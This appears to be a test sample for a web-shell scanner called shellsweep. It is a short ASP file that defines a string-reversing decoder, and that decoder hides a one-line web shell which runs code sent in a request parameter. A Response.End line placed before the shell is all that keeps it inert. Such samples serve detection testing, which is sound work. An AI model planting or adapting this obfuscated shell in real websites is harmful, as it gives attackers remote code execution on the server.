<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Function MorphCoder(Code)
MorphCoder=Replace(Replace(StrReverse(Code),"/*/",""""),"\*\",vbCrlf)
End Function
Execute MorphCoder(")/*/k/*/(tseuqer lave")
%>
